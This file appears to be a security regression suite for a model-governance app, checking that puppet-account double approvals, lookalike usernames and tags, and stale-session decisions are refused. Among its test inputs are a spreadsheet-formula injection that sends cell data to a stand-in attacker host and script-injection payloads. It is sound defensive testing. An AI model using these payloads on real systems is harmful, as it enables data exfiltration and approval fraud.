"""Red team of the feature catalog (issue 22) and of exports/sessions (issue 19). Each test is an attack that
succeeded on ``merge-trial`` and is refused now:

- an admin with two puppet accounts (whose tokens the admin issued, so holds) gives both approvals a ``proxy``
  removal needs: one human, two approvals;
- a new feature named ``Age`` beside ``age`` (protected_attribute): a spec that lists ``Age`` carries the same
  column through the credit policy's "no protected attribute" check untagged;
- a username ``dana\n`` (``$`` matched before the newline) or ``Dana`` beside ``dana``: a second account that reads
  as dana in the audit trail, exports and approval lists;
- a display name ``=HYPERLINK(...)`` lands in the audit CSV as a live spreadsheet formula;
- a decision kept through an expired session is filled in on another gate than the one it was written for, and
  ticked again after the evidence it was written on changed.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

import httpx
from sqlalchemy import update

from engine.db import BrowserSession, DecisionRow, Feature, User, utcnow
from testing.api import ApiEnv, at_gate, started_at_gate, wait_for
from tests.api import test_web_ui
from tests.api.test_web_ui import Browser, csrf_of, signed_in, stage_of

people = test_web_ui.people  # the web UI tests' browsers (env: tests/api/conftest.py)

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'


async def _tags(env: ApiEnv, name: str) -> list[str]:
    async with env.sessionmaker() as session:
        row = await session.get(Feature, name, populate_existing=True)
        assert row is not None
        return list(row.tags)


async def _puppet(env: ApiEnv, username: str) -> None:
    """An account the admin creates: its initial token is in the admin's answer, so the admin holds it."""
    r = await env.http.post("/api/v1/users", headers=env.auth("adam"),
                            json={"username": username, "roles": ["model_developer"], "team": "retail-risk"})
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["token"] is not None and body["token"]["issued_by"] == "adam", body
    env.tokens[username], env.user_ids[username] = body["token"]["token"], body["user"]["id"]


async def _remove_proxy_from_zip_code(env: ApiEnv, who: str) -> str:
    tags = [t for t in await _tags(env, "zip_code") if t != "proxy"]
    r = await env.http.post("/api/v1/features/proposals", headers=env.auth(who),
                            json={"feature": "zip_code", "tags": tags, "comment": "not a proxy really"})
    assert r.status_code == 201 and r.json()["approvals_needed"] == 2, r.text
    return str(r.json()["id"])


async def _approve(env: ApiEnv, who: str, pid: str) -> Any:
    return await env.http.post(f"/api/v1/features/proposals/{pid}/approval", json={"comment": "fine"},
                               headers=env.auth(who))


async def test_an_admin_cannot_give_both_approvals_through_an_account_whose_token_they_issued(env: ApiEnv) -> None:
    await _puppet(env, "pup_proposer")
    await _puppet(env, "pup_owner")
    # The admin makes one puppet the data owner of zip_code, the other proposes removing its proxy tag.
    row = (await env.http.get("/api/v1/features/zip_code", headers=env.auth("adam"))).json()
    r = await env.http.put("/api/v1/features/zip_code", headers=env.auth("adam"),
                           json={"description": row["description"], "tags": row["tags"], "owner": "pup_owner"})
    assert r.status_code == 200, r.text
    pid = await _remove_proxy_from_zip_code(env, "pup_proposer")
    # The admin approves as admin (the proposer is another account: allowed by "never the proposer")...
    first = await _approve(env, "adam", pid)
    assert first.status_code == 403 and first.json()["code"] == "linked_credential", first.text
    # ... and the data owner's approval made with a token the admin also holds is the admin again.
    second = await _approve(env, "pup_owner", pid)
    assert second.status_code == 403 and second.json()["code"] == "linked_credential", second.text
    assert "proxy" in await _tags(env, "zip_code")
    state = (await env.http.get(f"/api/v1/features/proposals/{pid}", headers=env.auth("ann"))).json()
    assert state["status"] == "pending" and state["approvals"] == []


async def test_the_owner_account_the_admin_holds_is_not_a_second_approver_after_the_admin(env: ApiEnv) -> None:
    await _puppet(env, "pup_owner")
    row = (await env.http.get("/api/v1/features/zip_code", headers=env.auth("adam"))).json()
    r = await env.http.put("/api/v1/features/zip_code", headers=env.auth("adam"),
                           json={"description": row["description"], "tags": row["tags"], "owner": "pup_owner"})
    assert r.status_code == 200, r.text
    pid = await _remove_proxy_from_zip_code(env, "dana")  # a real developer proposes
    assert (await _approve(env, "adam", pid)).status_code == 200
    second = await _approve(env, "pup_owner", pid)
    assert second.status_code == 403 and second.json()["code"] == "linked_credential", second.text
    assert "proxy" in await _tags(env, "zip_code")


async def test_a_feature_that_differs_from_a_protected_one_by_case_only_is_refused(env: ApiEnv) -> None:
    assert "protected_attribute" in await _tags(env, "age")
    r = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"),
                            json={"feature": "Age", "description": "Applicant age", "tags": [],
                                  "comment": "new column"})
    assert r.status_code == 422 and r.json()["code"] == "feature_name_taken", r.text
    assert "'age'" in r.json()["message"]
    put = await env.http.put("/api/v1/features/AGE", headers=env.auth("adam"),
                             json={"description": "Applicant age", "tags": []})
    assert put.status_code == 422 and put.json()["code"] == "feature_name_taken", put.text
    listed = (await env.http.get("/api/v1/features", params={"q": "age"}, headers=env.auth("dana"))).json()
    assert [f["name"] for f in listed["items"] if f["name"].lower() == "age"] == ["age"]
    # An existing feature is still changed under its own name.
    ok = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"),
                             json={"feature": "age", "description": "Age of the applicant, in whole years",
                                   "comment": "clearer"})
    assert ok.status_code == 201, ok.text


async def test_the_audit_csv_does_not_carry_a_display_name_as_a_spreadsheet_formula(env: ApiEnv) -> None:
    async with env.sessionmaker() as session:
        await session.execute(update(User).where(User.username == "dana").values(display_name=FORMULA))
        await session.commit()
    r = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"),
                            json={"feature": "age", "description": "Age of the applicant, in whole years",
                                  "comment": "-1+1"})
    assert r.status_code == 201, r.text
    export = await env.http.get("/api/v1/audit/export", params={"format": "csv", "actor": "dana"},
                                headers=env.auth("ann"))
    assert export.status_code == 200, export.text
    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8"))))
    assert rows and all(row["actor_display_name"] == "'" + FORMULA for row in rows), rows
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]



# ---- a decision kept through an expired session -----------------------------------------------------


@dataclass
class KeptPost:
    pid: str
    url: str  # the progression's page
    vera: Browser
    posted: httpx.Response  # the answer to the post: sent to sign in
    before: datetime  # the time just before the post


async def posted_on_expired_session(env: ApiEnv, people: dict[str, Browser], **fields: str) -> KeptPost:
    """Vera opens a gate's page, her session expires, she posts her decision (``fields`` with ``approve``): it is
    kept and she is sent to sign in."""
    pid, _ = await started_at_gate(env, "dana")
    vera = await signed_in(people, "vera")
    url = f"/ui/progressions/{pid}"
    page = await vera.get(url)
    async with env.sessionmaker() as session:
        await session.execute(update(BrowserSession).where(BrowserSession.user_id == env.user_ids["vera"])
                              .values(expires_at=utcnow() - timedelta(seconds=1)))
        await session.commit()
    before = utcnow()
    posted = await vera.http.post(f"{url}/decisions", data={"csrf_token": csrf_of(page.text), "decision": "approve",
                                                            **fields})
    assert posted.status_code == 303 and posted.headers["location"].startswith("/ui/login?next=")
    return KeptPost(pid, url, vera, posted, before)


async def _kept_then_signed_in(env: ApiEnv, people: dict[str, Browser], **fields: str) -> tuple[str, str]:
    """Vera's decision posted on an expired session, then vera signs in again: (progression id, page shown)."""
    kept = await posted_on_expired_session(env, people, **fields)
    pid, url, vera = kept.pid, kept.url, kept.vera
    login = await vera.get(kept.posted.headers["location"])
    again = await vera.http.post("/ui/login", data={"token": env.tokens["vera"], "csrf_token": csrf_of(login.text),
                                                    "next": "/ui/models"})
    assert again.status_code == 303 and again.headers["location"] == f"{url}#decide"
    return pid, (await vera.get(url)).text


async def test_a_kept_decision_is_not_filled_into_another_gate(env: ApiEnv, people: dict[str, Browser]) -> None:
    pid, shown = await _kept_then_signed_in(env, people, stage="risk_review", comment="risk accepted, ship it")
    assert 'id="pending-decision"' in shown and "risk review" in shown and "not the one open now" in shown
    assert 'value="approve" required checked' not in shown and "risk accepted, ship it" not in shown
    state = await wait_for(env, pid, at_gate("validation"))
    assert not stage_of(state, "validation")["decisions"]
    assert await env.count(DecisionRow, DecisionRow.progression_id == pid) == 0


async def test_a_kept_decision_on_evidence_that_changed_is_not_ticked_again(env: ApiEnv,
                                                                          people: dict[str, Browser]) -> None:
    _, shown = await _kept_then_signed_in(env, people, stage="validation", comment="validated on the old numbers",
                                          basis="sha256:" + "0" * 64)
    assert 'id="pending-decision"' in shown and "changed since you wrote it" in shown
    assert "validated on the old numbers" in shown  # the words are kept...
    assert 'value="approve" required checked' not in shown  # ... the choice is made again


# ---- usernames that read like another person's ------------------------------------------------------


async def test_a_username_that_reads_like_another_one_is_refused(env: ApiEnv) -> None:
    for lookalike, status in (("dana\n", 422), ("Dana", 409), ("DANA", 409)):
        r = await env.http.post("/api/v1/users", headers=env.auth("adam"),
                                json={"username": lookalike, "roles": ["model_developer"], "team": "retail-risk"})
        assert r.status_code == status, (lookalike, r.text)
    users = (await env.http.get("/api/v1/users", headers=env.auth("adam"))).json()
    assert [u["username"] for u in users if u["username"].strip().lower() == "dana"] == ["dana"]
    assert (await env.http.post("/api/v1/users", headers=env.auth("adam"), json={
        "username": "dana2", "roles": ["model_developer"], "team": "retail-risk"})).status_code == 201


# ---- a tag a policy check reads is as sensitive as proxy --------------------------------------------


async def test_removing_pii_which_the_credit_policy_reads_takes_two_people_not_one_admin(env: ApiEnv) -> None:
    assert "pii" in await _tags(env, "zip_code")
    row = (await env.http.get("/api/v1/features/zip_code", headers=env.auth("adam"))).json()
    without_pii = [t for t in row["tags"] if t != "pii"]
    # Before: the admin's direct write lifted the credit policy's pii_justification check on zip_code.
    put = await env.http.put("/api/v1/features/zip_code", headers=env.auth("adam"),
                             json={"description": row["description"], "tags": without_pii})
    assert put.status_code == 409 and put.json()["code"] == "two_approvals_required", put.text
    assert put.json()["details"]["removed"] == ["pii"]
    proposed = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"),
                                   json={"feature": "zip_code", "tags": without_pii, "comment": "not personal"})
    assert proposed.status_code == 201 and proposed.json()["approvals_needed"] == 2, proposed.text
    assert (await _approve(env, "adam", proposed.json()["id"])).status_code == 200
    assert "pii" in await _tags(env, "zip_code")  # one approval of the two
    # A tag no policy reads is still one person's decision.
    assert "geographic" in row["tags"]
    r = await env.http.put("/api/v1/features/first_name", headers=env.auth("adam"), json={
        "description": "Given name", "tags": (await _tags(env, "first_name")) + ["extra"]})
    assert r.status_code == 200, r.text


async def test_a_tag_that_only_looks_like_proxy_is_refused(env: ApiEnv) -> None:
    """"Proxy", a Cyrillic "рrоху" or "proxy" with a zero-width space read as proxy on every page, but the credit
    policy tests 'proxy' in f.tags: a new feature so tagged looks covered and is not; a change that swaps one in
    reads as no change to its approvers."""
    for lookalike in ("Proxy", "\u0440r\u043e\u0445y", "proxy\u200b", "pro xy"):
        new = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"), json={
            "feature": "zip3", "description": "First three ZIP digits", "tags": ["pii", lookalike],
            "comment": "coarser geography"})
        assert new.status_code == 422 and new.json()["code"] == "invalid_tag", (lookalike, new.text)
        put = await env.http.put("/api/v1/features/zip3", headers=env.auth("adam"),
                                 json={"description": "First three ZIP digits", "tags": ["pii", lookalike]})
        assert put.status_code == 422 and put.json()["code"] == "invalid_tag", (lookalike, put.text)
    ok = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"), json={
        "feature": "zip3", "description": "First three ZIP digits", "tags": ["pii", " proxy ",
                                                                             "restricted:credit-underwriting"],
        "comment": "coarser geography"})
    assert ok.status_code == 201 and ok.json()["tags"] == ["pii", "proxy", "restricted:credit-underwriting"], ok.text


# ---- probes that hold (no hole found; kept so that one cannot open unnoticed) ---------------------------


async def test_markup_in_a_description_comment_or_display_name_renders_inert_on_the_feature_pages(
        env: ApiEnv) -> None:
    script, img = "<script>alert(1)</script>", '<img src=x onerror="alert(2)">'
    async with env.sessionmaker() as session:
        await session.execute(update(User).where(User.username == "dana").values(display_name=script))
        await session.commit()
    r = await env.http.post("/api/v1/features/proposals", headers=env.auth("dana"), json={
        "feature": "zip3", "description": f"ZIP3 {img}", "tags": ["pii"], "comment": f"why {script}"})
    assert r.status_code == 201, r.text
    adam = Browser(env)
    await adam.sign_in("adam")
    try:
        for url in ("/ui/features", "/ui/features/age", "/ui/audit?event_type=feature.proposed"):
            page = await adam.get(url)
            assert page.status_code == 200, (url, page.text[:300])
            assert script not in page.text and "<img src=x" not in page.text, url
        audit = await adam.get("/ui/audit?event_type=feature.proposed")
        assert "&lt;script&gt;" in audit.text  # shown, as text
        # A strict query holds on the HTML pages too, repeated or not.
        assert (await adam.get("/ui/features?q=a&q=b&debug=1")).status_code == 422
    finally:
        await adam.aclose()
